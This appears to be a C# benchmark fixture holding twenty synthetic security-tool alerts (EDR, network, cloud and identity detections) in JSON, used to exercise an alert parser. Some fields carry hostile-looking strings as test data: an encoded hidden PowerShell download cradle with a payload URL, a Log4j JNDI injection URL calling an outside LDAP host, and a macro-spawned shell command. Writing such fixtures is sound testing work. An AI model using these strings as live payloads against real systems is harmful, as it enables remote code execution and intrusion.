using System.Text;

namespace Incidents.Benchmarks;

/// <summary>
/// Twenty native-schema alerts (see the schema at the top of <c>NativeAlertParser.cs</c>) of the kinds an
/// integration would send: EDR detections with a host and user, network alerts with both endpoints, cloud and
/// identity alerts, with and without source ids, observables and the tool's original event under <c>raw</c>; times in
/// UTC, with offsets and as epoch seconds; severities as names in any case and as numbers. Every one is accepted.
/// </summary>
public static class NativeAlerts
{
    private static readonly string[] Documents =
    [
        """
        {"source":"crowdstrike","sourceId":"ldt:4f1c2a9e0b7d4c3e:38655034","time":"2026-11-27T10:00:00Z","title":"Mimikatz credential dump","ruleId":"CS-IOA-17","severity":"critical","category":"credential-access","tactic":"TA0006","technique":"T1003.001","host":"WS-17","user":"alice","src":{"ip":"10.0.0.17","hostName":"ws-17","user":"alice"},"observables":[{"type":"process","value":"mimikatz.exe"},{"type":"hash","value":"E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"}]}
        """,
        """
        {"source":"sentinelone","sourceId":"1862473920194736281","time":"2026-11-27T10:02:13.512+01:00","title":"Suspicious PowerShell download cradle","ruleId":"S1-PS-0042","severity":"High","category":"execution","tactic":"TA0002","technique":"T1059.001","host":"fin-laptop-03","user":"CORP\\bob","observables":[{"type":"process","value":"powershell.exe -nop -w hidden -enc SQBFAFgA"},{"type":"url","value":"http://198.51.100.23/a.ps1"},{"type":"ip","value":"198.51.100.23"}],"raw":{"agentRealtimeInfo":{"agentComputerName":"fin-laptop-03","agentOsName":"Windows 11 Pro"},"threatInfo":{"classification":"Malware","confidenceLevel":"suspicious","threatName":"a.ps1"}}}
        """,
        """
        {"source":"defender","sourceId":"da638312948183471122_-1298437823","time":"2026-11-27T09:58:41.000Z","title":"Possible lateral movement using PsExec","ruleId":"DEF-LM-PSEXEC","severity":"medium","category":"lateral-movement","tactic":"TA0008","technique":"T1021.002","protocol":"tcp","src":{"ip":"10.0.1.4","port":50112,"hostName":"SCRANTON","user":"pbeesly"},"dst":{"ip":"10.0.1.6","port":445,"hostName":"NASHUA"},"observables":[{"type":"file","value":"C:\\Windows\\PSEXESVC.exe"},{"type":"user","value":"pbeesly"}]}
        """,
        """
        {"source":"zeek-intel","time":1764237600,"title":"Intel hit: known C2 domain","severity":3,"category":"command-and-control","protocol":"udp","src":{"ip":"10.0.0.5","port":53122},"dst":{"ip":"10.0.0.2","port":53,"hostName":"dns-01"},"observables":[{"type":"domain","value":"Update-Check.Evil.Example"}]}
        """,
        """
        {"source":"wazuh","sourceId":"1764237655.2219834","time":"2026-11-27T10:00:55.123456-05:00","title":"sshd: brute force trying to get access to the system","ruleId":"5712","severity":"high","category":"credential-access","tactic":"TA0006","technique":"T1110","protocol":"tcp","src":{"ip":"203.0.113.77","port":40222},"dst":{"ip":"10.0.2.10","port":22,"hostName":"bastion-01","user":"root"},"raw":{"agent":{"id":"004","name":"bastion-01"},"rule":{"level":10,"groups":["syslog","sshd","authentication_failures"]},"full_log":"Failed password for root from 203.0.113.77 port 40222 ssh2"}}
        """,
        """
        {"source":"osquery","time":"2026-11-27T10:04:00Z","title":"New persistent launch daemon","severity":"low","category":"persistence","tactic":"TA0003","technique":"T1543.004","host":"mac-design-12","observables":[{"type":"file","value":"/Library/LaunchDaemons/com.update.helper.plist"}]}
        """,
        """
        {"source":"okta","sourceId":"evt-2a7f3c1d9b","time":"2026-11-27T10:05:30.001Z","title":"Impossible travel sign-in","ruleId":"OKTA-ITR","severity":"MEDIUM","category":"initial-access","tactic":"TA0001","technique":"T1078.004","user":"carol@corp.example","src":{"ip":"192.0.2.44"},"dst":{"hostName":"sso-gw"},"observables":[{"type":"email","value":"carol@corp.example"},{"type":"ip","value":"192.0.2.44"}]}
        """,
        """
        {"source":"palo-alto","sourceId":"7190342256","time":"2026-11-27T10:06:02+00:00","title":"Cobalt Strike beacon C2 traffic","ruleId":"86465","severity":"critical","category":"command-and-control","tactic":"TA0011","technique":"T1071.001","protocol":"TCP","src":{"ip":"10.10.4.31","port":61833,"hostName":"eng-ws-31"},"dst":{"ip":"185.220.101.9","port":443},"observables":[{"type":"ip","value":"185.220.101.9"},{"type":"domain","value":"cdn.bad-cdn.example"}]}
        """,
        """
        {"source":"aws-guardduty","sourceId":"a2c5e8f1b4d74e0c9f3a6b1d8e2c7f40","time":"2026-11-27T10:07:45.000Z","title":"EC2 instance querying a domain used for cryptocurrency mining","ruleId":"CryptoCurrency:EC2/BitcoinTool.B!DNS","severity":"high","category":"impact","tactic":"TA0040","technique":"T1496","protocol":"udp","src":{"ip":"172.31.18.204","hostName":"ip-172-31-18-204"},"observables":[{"type":"domain","value":"xmr.pool.minergate.example"}],"raw":{"accountId":"123456789012","region":"eu-west-1","resource":{"instanceDetails":{"instanceId":"i-0a1b2c3d4e5f67890","instanceType":"t3.large"}}}}
        """,
        """
        {"source":"suricata-custom","time":"2026-11-27T10:08:09.777Z","title":"ET SCAN Nmap Scripting Engine User-Agent Detected","ruleId":"2009358","severity":2,"category":"discovery","tactic":"TA0007","technique":"T1046","protocol":"tcp","src":{"ip":"10.0.9.200","port":34512},"dst":{"ip":"10.0.0.80","port":80,"hostName":"intranet"}}
        """,
        """
        {"source":"carbon-black","sourceId":"WNEXFKQ7-0000180c-00000000-1d9f2c3a","time":"2026-11-27T10:09:00.5Z","title":"Office application spawned a command shell","severity":"High","category":"execution","tactic":"TA0002","technique":"T1204.002","host":"HR-WS-04","user":"dave","observables":[{"type":"process","value":"cmd.exe /c whoami"},{"type":"file","value":"C:\\Users\\dave\\Downloads\\invoice.docm"},{"type":"hash","value":"5d41402abc4b2a76b9719d911017c592"}]}
        """,
        """
        {"source":"azure-ad","sourceId":"c0ffee00-1234-4abc-9def-000000000042","time":"2026-11-27T11:10:00+01:00","title":"Password spray against many accounts","severity":"medium","category":"credential-access","tactic":"TA0006","technique":"T1110.003","src":{"ip":"198.51.100.200"},"dst":{"ip":"10.1.0.10","port":443,"hostName":"adfs-01"},"observables":[{"type":"ip","value":"198.51.100.200"},{"type":"user","value":"erin"},{"type":"user","value":"frank"},{"type":"user","value":"grace"}]}
        """,
        """
        {"source":"falco","time":"2026-11-27T10:11:11.111111111Z","title":"Terminal shell in container","ruleId":"Terminal shell in container","severity":"info","category":"execution","tactic":"TA0002","technique":"T1609","host":"k8s-node-07","user":"root","raw":{"output_fields":{"container.id":"3ad7b26cb0a1","container.image.repository":"registry.internal/payments","k8s.ns.name":"payments","k8s.pod.name":"payments-api-6d9f7c6b8d-x2lkp","proc.cmdline":"bash"},"priority":"Notice"}}
        """,
        """
        {"source":"elastic-endpoint","sourceId":"ee0b2d6b-7f1a-4f3e-9c1d-5a8b7e6f4d3c","time":"2026-11-27T10:12:30.250Z","title":"Ransomware: mass file rename","ruleId":"EP-RANSOM-01","severity":4,"category":"impact","tactic":"TA0040","technique":"T1486","host":"fs-02","user":"svc_backup","dst":{"ip":"fd12:3456:789a::20","port":445,"hostName":"fs-02"},"observables":[{"type":"process","value":"C:\\ProgramData\\x.exe"},{"type":"file","value":"\\\\fs-02\\share\\finance\\q3.xlsx.locked"}]}
        """,
        """
        {"source":"proofpoint","sourceId":"c2b7d3a8-msg-88812","time":"2026-11-27T10:13:59Z","title":"Phishing message delivered before URL rewrite","severity":"medium","category":"initial-access","tactic":"TA0001","technique":"T1566.002","user":"heidi@corp.example","dst":{"hostName":"mail-01","user":"heidi"},"observables":[{"type":"email","value":"billing@paypa1.example"},{"type":"url","value":"https://paypa1.example/login?session=8812"},{"type":"domain","value":"paypa1.example"}]}
        """,
        """
        {"source":"fortigate","sourceId":"0000000013-1764238500","time":"2026-11-27T12:15:00+02:00","title":"IPS: Apache.Log4j.Error.Log.Remote.Code.Execution","ruleId":"51006","severity":"critical","category":"initial-access","tactic":"TA0001","technique":"T1190","protocol":"tcp","src":{"ip":"45.155.205.233","port":49822},"dst":{"ip":"10.20.0.15","port":8080,"hostName":"app-01"},"observables":[{"type":"ip","value":"45.155.205.233"},{"type":"url","value":"http://app-01:8080/api?x=${jndi:ldap://45.155.205.233/a}"}]}
        """,
        """
        {"source":"sysmon-sigma","time":"2026-11-27T10:16:40.004Z","title":"LSASS access from non-system account","ruleId":"sigma:0d894093-71bc-43c3-8c4d-ecfc28dcf5d9","severity":"high","category":"credential-access","tactic":"TA0006","technique":"T1003","host":"WS-22","user":"CORP\\ivan","src":{"ip":"10.0.0.22","hostName":"WS-22"},"observables":[{"type":"process","value":"C:\\Windows\\Temp\\procdump64.exe"}],"raw":{"EventID":10,"SourceImage":"C:\\Windows\\Temp\\procdump64.exe","TargetImage":"C:\\Windows\\system32\\lsass.exe","GrantedAccess":"0x1fffff"}}
        """,
        """
        {"source":"cisco-umbrella","time":1764238620.25,"title":"DNS request to newly seen domain","severity":"Low","category":"command-and-control","protocol":"udp","src":{"ip":"10.0.3.41","port":61001,"hostName":"sales-ws-41"},"dst":{"ip":"208.67.222.222","port":53},"observables":[{"type":"domain","value":"qzx7-host.example"}]}
        """,
        """
        {"source":"vectra","sourceId":"detection-55120","time":"2026-11-27T10:18:00Z","title":"Hidden HTTPS tunnel","ruleId":"hidden_https_tunnel_cnc","severity":"high","category":"command-and-control","tactic":"TA0011","technique":"T1572","protocol":"tcp","src":{"ip":"10.0.5.9","port":55300,"hostName":"dev-ws-09","user":"judy"},"dst":{"ip":"203.0.113.9","port":443},"observables":[{"type":"ip","value":"203.0.113.9"}]}
        """,
        """
        {"source":"custom-siem","sourceId":"corr-7781","time":"2026-11-27T10:19:20.000+05:30","title":"Service account used interactively","ruleId":"UC-112","severity":"medium","category":"privilege-escalation","tactic":"TA0004","technique":"T1078.002","user":"svc_sql","src":{"ip":"10.0.0.31","hostName":"ws-31"},"dst":{"ip":"10.0.0.40","port":3389,"hostName":"sql-01","user":"svc_sql"},"protocol":"tcp"}
        """,
    ];

    /// <summary>Each document as a separate UTF-8 buffer, as the front door would hand it over.</summary>
    public static List<ReadOnlyMemory<byte>> Items() =>
        [.. Documents.Select(document => (ReadOnlyMemory<byte>)Encoding.UTF8.GetBytes(document))];
}
